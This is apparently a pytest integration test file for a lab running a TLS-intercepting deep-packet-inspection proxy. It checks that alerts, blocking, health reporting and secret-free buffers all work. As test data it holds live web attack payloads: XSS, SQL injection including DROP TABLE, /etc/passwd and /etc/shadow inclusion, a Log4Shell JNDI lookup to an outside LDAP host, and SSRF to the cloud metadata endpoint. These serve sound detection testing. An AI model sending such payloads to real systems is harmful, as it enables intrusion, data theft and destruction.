"""The MITM stream in the whole lab: visitors and attackers over TLS, what `ubus` tells of them, and what may fail."""

from __future__ import annotations

import json
import os
import re
import secrets
import signal
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from lab.attacks import ATTACKS
from lab.network import GUEST, VISITORS
from lab.origin import CLOUD, PASSWORD, SHOP, TOKEN, WIKI
from lab.waiting import NeverError, eventually
from tests.integration.running_lab import END_S, ROOT, RunningLab, running_lab

pytestmark = pytest.mark.root

#: Found again nowhere in the buffer's files.
SECRET = "s3cr3t-" + secrets.token_hex(6)
#: Those that the lab's visitors do not use.
CALLER = VISITORS[0]


@dataclass
class OurLab(RunningLab):
    """What these tests ask of it."""

    def curl(self, url: str, *options: str) -> tuple[int, int]:
        """The status of the answer and the port that it was asked from."""
        shown = ["-sS", "-o", "/dev/null", "--max-time", "20", "-w", "%{http_code} %{local_port}"]
        done = self.script("visitor", "curl", *shown, *options, url)
        assert done.returncode == 0, done.stderr
        status, port = done.stdout.split()
        return int(status), int(port)

    def alerts(self) -> list[dict[str, Any]]:
        rows: list[dict[str, Any]] = self.call("dpi.status", "alerts", limit=500)["alerts"]
        return rows

    def alert_from(self, port: int) -> dict[str, Any]:
        """The alert about what is in the request that came from this port."""

        def told() -> dict[str, Any] | None:
            rows = (row for row in self.alerts() if row["client_port"] == port)
            # One address that tries everything is told as a scanner as well.
            return next((row for row in rows if row["tier"] != "behaviour"), None)

        return dict(eventually(f"an alert about port {port}", told))

    def problems(self) -> set[str]:
        return {problem["code"] for problem in self.call("dpi.status", "health")["problems"]}


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[OurLab]:
    with running_lab(OurLab, tmp_path_factory.mktemp("lab")) as lab:
        yield lab


def test_it_says_what_to_try(lab: OurLab) -> None:
    text = "\n".join(lab.said)
    assert "lab/bin/dpi-dualctl alerts" in text
    assert f"lab/bin/visitor curl 'https://{SHOP}/" in text
    assert re.search(r"HAProxy and mitmproxy with the addon … \d+ ms", text)


@pytest.mark.parametrize(
    ("url", "options", "category", "place"),
    [
        (f"https://{SHOP}/search?q={quote('<script>alert(1)</script>')}", (), "xss", "ARGS:q"),
        (f"https://{SHOP}/order", ("-d", "coupon=x' OR 1=1 LIMIT 1 -- -"), "sqli", "ARGS:coupon"),
        (f"https://{WIKI}/?page=/etc/passwd", (), "lfi", "ARGS:page"),
        (f"https://{CLOUD}/", ("-A", "${jndi:ldap://198.51.100.66/a}"), "log4shell", "REQUEST_HEADERS:user-agent"),
        (
            f"https://{CLOUD}/api/v1/notes",
            ("-H", "Content-Type: application/json", "-d", '{"webhook": "http://169.254.169.254/latest/meta-data/"}'),
            "ssrf",
            "ARGS:json.webhook",
        ),
    ],
)
@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_an_attack_is_told_with_client_category_rule_and_place(
    lab: OurLab, url: str, options: tuple[str, ...], category: str, place: str, version: str
) -> None:
    status, port = lab.curl(url, "-4", "--interface", CALLER, version, *options)
    assert status in (200, 401, 403, 404)
    alert = lab.alert_from(port)
    assert alert["client_ip"] == CALLER
    assert alert["categories"][0] == category
    assert alert["rule"]
    assert alert["place"] == place
    assert alert["blocked"] == (status == 403)
    assert alert["host"] == url.split("/")[2]
    assert alert["threat_score"] >= 30


def test_the_gravest_are_refused_with_a_reference_that_alerts_can_find(lab: OurLab) -> None:
    attack = quote("1 AND SLEEP(5)-- ' UNION SELECT password FROM users; DROP TABLE users")
    done = lab.script("visitor", "curl", "-s", "-w", "%{http_code}", f"https://{SHOP}/search?q={attack}")
    assert done.stdout.endswith("403")
    reference = done.stdout.partition("<code>")[2].partition("</code>")[0]
    found = eventually("its alert", lambda: [row for row in lab.alerts() if row["id"] == reference])
    assert found[0]["blocked"]


@pytest.mark.parametrize(
    "lie",
    [
        ("X-Forwarded-For: 192.168.1.100",),
        ("X-Forwarded-For: 198.51.100.10, 127.0.0.1",),
        ("X-Forwarded-For: 10.0.0.1", "X-Forwarded-For: ::1", "X-Real-IP: 10.0.0.1", "Forwarded: for=10.0.0.1"),
        ("X-DPI-Client-Port: 1", "X-Forwarded-For: 127.0.0.1"),
    ],
)
def test_a_forged_address_changes_nothing(lab: OurLab, lie: tuple[str, ...]) -> None:
    options = [word for header in lie for word in ("-H", header)]
    _, port = lab.curl(f"https://{WIKI}/?page=/etc/shadow", "-4", *options)
    assert lab.alert_from(port)["client_ip"] == GUEST


def test_an_ipv6_client_is_told_as_such(lab: OurLab) -> None:
    _, port = lab.curl(f"https://{WIKI}/?page=/etc/shadow", "-6")
    assert lab.alert_from(port)["client_ip"] == "2001:db8:2000:77::1"


def test_ordinary_requests_raise_nothing(lab: OurLab) -> None:
    before = {row["id"] for row in lab.alerts()}
    requests = lab.call("dpi.status", "buffer")["requests_total"]
    asked = [
        (f"https://{SHOP}/search?q=O'Reilly%20rock%20'n'%20roll", ()),
        (f"https://{SHOP}/reviews", ("-d", "text=It's the best; I'd buy it again & again -- really!")),
        (f"https://{SHOP}/login", ("-d", f"user=anna&password={PASSWORD}")),
        (f"https://{CLOUD}/upload", ("-F", f"file=@{ROOT}/README.md")),
        (
            f"https://{CLOUD}/api/v1/notes",
            ("-H", f"Authorization: Bearer {TOKEN}", "--json", '{"title": "select a union"}'),
        ),
    ]
    for url, options in asked:
        assert lab.curl(url, *options)[0] in (200, 201, 303)
    eventually("five requests", lambda: lab.call("dpi.status", "buffer")["requests_total"] >= requests + 5)
    eventually("all analysed", lambda: lab.call("dpi.status", "buffer")["waiting"] == 0)
    time.sleep(3.0)  # more than an alert is promised to take
    assert [row for row in lab.alerts() if row["id"] not in before] == []


def test_nothing_of_a_request_lies_in_the_buffers_files(lab: OurLab) -> None:
    headers = ("-H", f"Cookie: session={SECRET}", "-H", f"Authorization: Bearer {SECRET}")
    _, port = lab.curl(f"https://{SHOP}/search?q=kettle'+or+'{SECRET}'='{SECRET}", *headers)
    identity = lab.alert_from(port)["request_id"]
    buffer = Path(lab.record["directory"]) / "buffer"
    written = eventually("files", lambda: {path: path.read_bytes() for path in buffer.iterdir() if path.is_file()})
    assert any(len(content) > 1000 for content in written.values())
    for path, content in written.items():
        for word in (SECRET, identity, "kettle", "Cookie", "/search", "Mozilla", TOKEN, PASSWORD):
            if path.name != "policy.json":
                assert word.encode() not in content, (path.name, word)
        assert path.stat().st_mode & 0o077 == 0, path.name
    for file in (Path(lab.record["directory"]) / "stats_dir").iterdir():
        assert SECRET.encode() not in file.read_bytes(), file.name


def test_haproxy_is_the_products_and_reloads_by_its_command(lab: OurLab) -> None:
    status = lab.script("dpi-dualctl", "--json", "haproxy", "status")
    assert status.returncode == 0, status.stdout + status.stderr
    answer = json.loads(status.stdout)
    assert (answer["installed"], answer["mitm_up"]) == ("current", True)
    pid = lab.order("haproxy", "running")["pid"]
    applied = lab.script("dpi-dualctl", "--json", "haproxy", "apply")
    assert json.loads(applied.stdout)["reloaded"], applied.stdout + applied.stderr
    eventually("another HAProxy", lambda: lab.order("haproxy", "running")["pid"] not in (pid, None))
    eventually("it serves", lambda: lab.script("visitor", "curl", "-s", f"https://{SHOP}/").returncode == 0)


def test_without_mitmproxy_the_origin_is_served_directly_and_health_says_so(lab: OurLab) -> None:
    eventually("nothing wrong", lambda: not lab.problems() & {"mitm_bypassed", "mitm_unreachable"})
    attack = f"https://{SHOP}/search?q={quote('<script>alert(2)</script>')}"
    os.kill(lab.order("mitmdump", "running")["pid"], signal.SIGSTOP)
    try:
        # Even one that only hangs.
        assert lab.curl(attack)[0] == 200
    finally:
        os.kill(lab.order("mitmdump", "running")["pid"], signal.SIGCONT)
    eventually("inspected again", lambda: "mitm_bypassed" not in lab.problems())
    assert lab.order("mitmdump", "stop")
    eventually("it is gone", lambda: not lab.order("mitmdump", "running")["running"])
    assert [lab.curl(f"https://{SHOP}/product/{n}")[0] for n in range(5)] == [200] * 5
    assert lab.curl(f"https://{SHOP}/login", "-d", "user=anna&password=x")[0] == 401
    assert eventually("health says so", lambda: lab.problems() & {"mitm_bypassed"})
    assert not lab.call("dpi.status", "status")["mitm_stream"]["running"]
    lab.order("mitmdump", "start")
    eventually("inspected again", lambda: not lab.problems() & {"mitm_bypassed", "mitm_unreachable"})
    _, port = lab.curl(attack)
    eventually("alerts again", lambda: next((r for r in lab.alerts() if r["client_port"] == port), None))


def test_a_killed_mitmproxy_comes_back_and_no_page_is_missed(lab: OurLab) -> None:
    os.kill(lab.order("mitmdump", "running")["pid"], signal.SIGKILL)
    assert [lab.curl(f"https://{SHOP}/product/{n % 8}")[0] for n in range(10)] == [200] * 10
    eventually("another one", lambda: lab.order("mitmdump", "running")["running"])
    assert lab.order("mitmdump", "running")["restarts"] == 1
    eventually("inspected again", lambda: not lab.problems() & {"mitm_bypassed", "mitm_unreachable"})


def test_the_labs_own_visitors_show_every_category_and_the_report_counts_them(lab: OurLab) -> None:
    lab.order("visitors", "start")
    # Whether a flood gets fast enough to be one is the machine's business; the analyser's tests show that it is told.
    wanted = {*ATTACKS, "brute_force"}
    told: set[str] = set()

    def every_category() -> bool:
        for row in lab.alerts():
            told.update(row["categories"])
        return wanted <= told

    try:
        eventually("every category is told", every_category, 300)
    except NeverError as error:
        error.add_note(f"not seen: {sorted(wanted - told)}")
        raise
    rows = lab.alerts()
    assert all(row["client_ip"].startswith(("192.0.2.", "2001:db8:2000:")) for row in rows)
    assert {row["blocked"] for row in rows} == {True, False}
    os.killpg(lab.process.pid, signal.SIGINT)
    assert lab.process.stdout is not None
    rest = lab.process.stdout.read()
    assert lab.process.wait(timeout=END_S) == 0, rest
    document = json.loads(lab.report.read_text())
    mitm = document["mitm"]
    assert wanted <= set(mitm["alerts"])
    assert mitm["requests"] > 450
    assert 0 < mitm["blocked"] < sum(mitm["alerts"].values())
    assert 0 < mitm["buffer_entries"] <= 1000
    # A flood may leave some copies with their quick verdict on a slow machine; most are looked into.
    assert 0 <= mitm["dropped"] < mitm["requests"] / 2
    assert not [error for error in document["errors"] if error.startswith(("visitors", "gateway", "haproxy", "origin"))]
    assert [error for error in document["errors"] if error.startswith("mitmdump")] in (
        [],
        ["mitmdump was killed by SIGKILL"],
    )
    assert re.search(r"MITM [\d,]+ requests, [\d,]+ alerts", rest)
